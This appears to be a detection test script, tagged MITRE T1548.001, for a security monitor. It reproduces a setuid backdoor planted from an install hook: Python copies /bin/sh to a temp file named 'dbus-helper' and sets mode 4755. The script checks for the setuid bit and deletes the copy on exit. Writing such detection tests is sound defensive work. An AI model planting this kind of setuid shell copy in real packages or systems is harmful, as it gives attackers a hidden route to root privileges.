#!/bin/sh
# technique: T1548.001 Abuse Elevation Control Mechanism: Setuid and Setgid
# reproduces: the same setuid backdoor planted from an install hook's own language: os.chmod(path, 0o4755) in a malicious setup.py, no chmod program involved
# expect: setuid-bit-set ^python3(\.[0-9]+)?$
# exec-borne: no
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

target="${BW_ATTACK_TMP:?}/dbus-helper"
trap 'rm -f "$target"' EXIT

python3 - "$target" <<'PY'
import os
import shutil
import stat
import sys

dst = sys.argv[1]
shutil.copyfile("/bin/sh", dst)
os.chmod(dst, 0o4755)
mode = os.stat(dst).st_mode
print("mode %o" % stat.S_IMODE(mode))
sys.exit(0 if mode & stat.S_ISUID else 1)
PY
